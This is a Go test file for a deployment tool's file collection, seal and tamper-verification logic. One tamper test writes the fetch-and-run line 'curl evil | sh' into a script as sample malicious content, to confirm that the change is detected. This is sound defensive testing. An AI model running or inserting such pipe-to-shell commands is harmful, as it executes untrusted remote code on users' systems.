package deploy_test

import (
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gantryhq/gantry/internal/deploy"
	"github.com/gantryhq/gantry/internal/spec"
)

func paths(m map[string][]byte) []string {
	var out []string
	for p := range m {
		out = append(out, p)
	}
	slices.Sort(out)
	return out
}

// Outside git a revision holds every project file but .gantry/ and what
// .gantryignore excludes; other pipelines' files are not its content.
func TestCollectHoldsProjectFiles(t *testing.T) {
	t.Parallel()
	dir := project(t,
		edit{file: "lib/common.sh", new: "greet() { echo hi; }\n"},
		edit{file: "app/server.py", new: "print('serving')\n"},
		edit{file: ".gantry/gantry.db", new: "state"},
		edit{file: "build/out.bin", new: "artefact"},
		edit{file: "logs/run.log", new: "noise"},
		edit{file: "data/raw/big.csv", new: "a,b\n"},
		edit{file: ".gantryignore", new: "# build output\nbuild/\n*.log\n/data/raw\n"},
	)
	b := collect(t, dir, "orders")
	want := []string{".gantryignore", "app/server.py", "gantry.yaml", "lib/common.sh", "pipelines/orders.yaml",
		"runbooks/orders.md", "scripts/extract.sh", "scripts/fetch.sh", "scripts/load.sh"}
	if got := paths(b.Files); !slices.Equal(got, want) {
		t.Errorf("files = %q\nwant %q", got, want)
	}
	if got := paths(b.Context); !slices.Equal(got, []string{"pipelines/ingest.yaml"}) {
		t.Errorf("context = %q, want the upstream pipeline only", got)
	}

	// A change to a file no run: line names is a new revision, and its
	// diff says so, at L2 as a changed script.
	writeTestFile(t, filepath.Join(dir, "lib", "common.sh"), "greet() { echo hello; }\n")
	changed := collect(t, dir, "orders")
	if changed.Hash == b.Hash {
		t.Fatal("a changed lib/common.sh kept the revision's hash")
	}
	d, err := deploy.Compare(b, changed)
	if err != nil {
		t.Fatal(err)
	}
	if d.Risk != spec.RiskL2 || !strings.Contains(d.String(), "L2  lib/common.sh changed (+1 −1 lines)") {
		t.Errorf("diff = %s", d)
	}
	// Another pipeline's file is not this one's content.
	writeTestFile(t, filepath.Join(dir, "pipelines", "ingest.yaml"), string(b.Context["pipelines/ingest.yaml"])+"# edited\n")
	if again := collect(t, dir, "orders"); again.Hash != changed.Hash {
		t.Error("editing the upstream pipeline changed orders' revision")
	}
}

// files: in gantry.yaml narrows a revision; what the pipeline itself
// names (its file, gantry.yaml, runbook, run: scripts) stays.
func TestCollectFilesNarrows(t *testing.T) {
	t.Parallel()
	dir := project(t,
		edit{file: "gantry.yaml", new: "\nfiles: [lib, 'app/*.py']\n"},
		edit{file: "lib/common.sh", new: "x\n"},
		edit{file: "app/server.py", new: "y\n"},
		edit{file: "app/notes.md", new: "z\n"},
		edit{file: "docs/design.md", new: "w\n"},
	)
	want := []string{"app/server.py", "gantry.yaml", "lib/common.sh", "pipelines/orders.yaml",
		"runbooks/orders.md", "scripts/extract.sh", "scripts/load.sh"}
	if got := paths(collect(t, dir, "orders").Files); !slices.Equal(got, want) {
		t.Errorf("files = %q\nwant %q", got, want)
	}
}

// In a git work tree a revision holds what git tracks, not stray files.
func TestCollectGitTracked(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("git is needed in CI")
		}
		t.Skip("no git")
	}
	dir := project(t, edit{file: "lib/common.sh", new: "x\n"}, edit{file: "scratch.txt", new: "not tracked\n"})
	for _, args := range [][]string{{"init", "-q"}, {"add", "gantry.yaml", "pipelines", "runbooks", "scripts", "lib"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	got := paths(collect(t, dir, "orders").Files)
	if !slices.Contains(got, "lib/common.sh") || slices.Contains(got, "scratch.txt") || slices.Contains(got, ".git/HEAD") {
		t.Errorf("files = %q, want lib/common.sh and neither scratch.txt nor .git", got)
	}
}

func TestCollectSymlinks(t *testing.T) {
	t.Parallel()
	dir := project(t, edit{file: "lib/common.sh", new: "shared\n"})
	if err := os.Symlink("lib/common.sh", filepath.Join(dir, "common.sh")); err != nil {
		t.Fatal(err)
	}
	if got := string(collect(t, dir, "orders").Files["common.sh"]); got != "shared\n" {
		t.Errorf("a link inside the project holds %q, want its target's content", got)
	}
	outside := filepath.Join(t.TempDir(), "secret.txt")
	writeTestFile(t, outside, "elsewhere\n")
	if err := os.Symlink(outside, filepath.Join(dir, "lib", "out.txt")); err != nil {
		t.Fatal(err)
	}
	_, err := deploy.Collect(dir, "orders")
	if !errors.Is(err, deploy.ErrInvalid) || !strings.Contains(err.Error(), "lib/out.txt is a symbolic link to "+outside+", outside the project") {
		t.Errorf("a link out of the project: %v", err)
	}
}

func TestCollectSizeLimit(t *testing.T) {
	t.Parallel()
	dir := project(t)
	big := filepath.Join(dir, "data", "dump.bin")
	if err := os.MkdirAll(filepath.Dir(big), 0o755); err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(big)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(deploy.MaxBundleBytes + 1); err != nil {
		t.Fatal(err)
	}
	f.Close()
	_, err = deploy.Collect(dir, "orders")
	if !errors.Is(err, deploy.ErrInvalid) || !strings.Contains(err.Error(), "more than 10000 files or 16 MiB (at data/dump.bin)") ||
		!strings.Contains(err.Error(), ".gantryignore") {
		t.Errorf("an oversize project: %v", err)
	}
	writeTestFile(t, filepath.Join(dir, ".gantryignore"), "data/\n")
	collect(t, dir, "orders") // ignored, it fits
}

func TestCollectBadIgnoreFile(t *testing.T) {
	t.Parallel()
	dir := project(t, edit{file: ".gantryignore", new: "build/\n!build/keep\n"})
	_, err := deploy.Collect(dir, "orders")
	if !errors.Is(err, deploy.ErrInvalid) || !strings.Contains(err.Error(), `.gantryignore:2: "!build/keep": negation (!) is not supported`) {
		t.Errorf("a negation: %v", err)
	}
}

// A sealed revision folder is read-only; Verify finds any change to it,
// and RemoveAll still removes it.
func TestSealAndVerify(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	b := collect(t, project(t, edit{file: "lib/common.sh", new: "x\n"}), "orders")
	r := e.deploy("alice", b, "staging")
	ctx := t.Context()
	fresh := func() string {
		dir := filepath.Join(t.TempDir(), "rev")
		if err := os.Mkdir(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := e.svc.Materialize(ctx, r.Revision.Hash, dir); err != nil {
			t.Fatal(err)
		}
		if err := deploy.Seal(dir); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = deploy.RemoveAll(dir) })
		return dir
	}
	dir := fresh()
	for rel, want := range map[string]fs.FileMode{".": 0o555, "lib": 0o555, "lib/common.sh": 0o444, "scripts/load.sh": 0o555, ".gantry": 0o755} {
		info, err := os.Stat(filepath.Join(dir, rel))
		if err != nil || info.Mode().Perm() != want {
			t.Errorf("%s: mode %v (%v), want %v", rel, info.Mode().Perm(), err, want)
		}
	}
	writeTestFile(t, filepath.Join(dir, ".gantry", "build.txt"), "scratch is not the revision\n")
	if err := e.svc.Verify(ctx, r.Revision.Hash, dir); err != nil {
		t.Fatalf("an intact folder: %v", err)
	}
	for name, tamper := range map[string]func(dir string) string{
		"changed": func(dir string) string {
			writeTestFile(t, filepath.Join(dir, "lib", "common.sh"), "curl evil | sh\n")
			return "lib/common.sh was changed"
		},
		"added": func(dir string) string {
			writeTestFile(t, filepath.Join(dir, "scripts", "extra.sh"), "#!/bin/sh\n")
			return "scripts/extra.sh was added"
		},
		"removed": func(dir string) string {
			_ = os.Chmod(filepath.Join(dir, "runbooks"), 0o755)
			if err := os.Remove(filepath.Join(dir, "runbooks", "orders.md")); err != nil {
				t.Fatal(err)
			}
			return "runbooks/orders.md was removed"
		},
	} {
		dir := fresh()
		want := tamper(dir)
		err := e.svc.Verify(ctx, r.Revision.Hash, dir)
		if !errors.Is(err, deploy.ErrTampered) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: Verify = %v, want ErrTampered naming %q", name, err, want)
		}
	}
	if err := deploy.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(dir); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("RemoveAll left %s: %v", dir, err)
	}
}

// writeTestFile writes content to path, even in a sealed folder.
func writeTestFile(t *testing.T, path, content string) {
	t.Helper()
	_ = os.Chmod(filepath.Dir(path), 0o755)
	_ = os.Chmod(path, 0o644)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}
